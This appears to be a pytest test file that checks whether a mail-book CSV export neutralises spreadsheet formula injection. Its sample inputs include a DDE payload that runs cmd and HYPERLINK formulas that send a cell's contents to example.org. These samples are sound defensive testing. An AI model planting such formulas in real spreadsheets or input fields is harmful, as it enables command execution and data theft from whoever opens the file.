"""CSV exports neutralise spreadsheet formulas: a cell starting with = + - @ tab or CR is made literal."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from models.db import Database
from models.operations.mail_book import MailBookFilter, export_mail_book
from models.operations.outgoing_mail import print_documents, reprint_document
from models.spreadsheet_text import literal_cell, literal_csv
from printing.batch import file_delivery
from tests.conftest import Staff
from tests.support.factories import queued_letters

ATTACKS = [
    '=HYPERLINK("http://example.org/?x="&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_is_made_literal(text: str) -> None:
    assert literal_cell(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(literal_csv(["A"], [[text]])), delimiter=";"))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Brief kam zurück", "2026-000123", "", "Öztürk = Müller", 3, 2.5, -4])
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert literal_cell(value) == value


def test_the_mail_book_export_neutralises_what_a_clerk_or_citizen_wrote(
    db: Database, staff: Staff, tmp_path: Path
) -> None:
    letter = queued_letters(db, 1)[0]
    print_documents(db, staff.clerk, file_delivery(tmp_path / "first.pdf"))
    reason = '=HYPERLINK("http://example.org";"Brief kam unzustellbar zurück")'
    reprint_document(db, staff.clerk, letter.id, reason, file_delivery(tmp_path / "again.pdf"))
    exported = export_mail_book(db, staff.supervisor, MailBookFilter(reprints_only=True))
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    assert rows[1][-1] == "'" + reason
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
